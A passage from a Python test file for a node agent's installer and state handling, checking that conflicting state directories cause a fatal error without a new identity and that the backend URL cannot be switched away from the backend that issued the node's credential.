            json.dump({"node_id": "n-new"}, f)
        fatal: list[tuple[int, str]] = []
        agent = self.start_agent(backend, state_dir=new, fatal=fatal)
        await backend.wait_for(lambda: bool(fatal), 20)
        self.assertEqual(fatal[0][0], 78)
        self.assertIn("two states for this user", fatal[0][1])
        await self.stop_agent(agent)
        with open(os.path.join(new, "state.json")) as f:
            self.assertNotIn("credential", json.load(f))  # no new identity
        self.assertTrue(os.path.exists(os.path.join(old, "state.json")))


def _as_user(adopt: Any) -> Any:
    def adopt_as_user(state_path: str, environ: Any = None, euid: Any = None) -> Any:
        return adopt(state_path, environ, 1000)

    return adopt_as_user


class ConfigSetKeepsTheIssuerTests(SynchronousTestCase):
    def test_config_set_backend_url_to_another_backend(self) -> None:
        h = Host(self)
        _state(h, {"credential": "n.c", "node_id": "n-1", "backend_url": A})
        env_path = h.path("/etc/llmport-agent.env")
        with open(env_path, "w") as f:
            f.write(f"LLM_PORT_NODE_AGENT_BACKEND_URL={A}\n")
        rc = Installer(h.system()).edit_config([f"BACKEND_URL={B}"], [])
        self.assertEqual(rc, 2)
        self.assertIn(f"{env_path} was not changed", h.err.getvalue())
        self.assertIn("is not the backend that issued this node's credential", h.err.getvalue())
        self.assertEqual(EnvFile.parse(open(env_path).read()).values()["LLM_PORT_NODE_AGENT_BACKEND_URL"], A)
        self.assertEqual(Installer(h.system()).edit_config([f"BACKEND_URL={A}/"], []), 0)
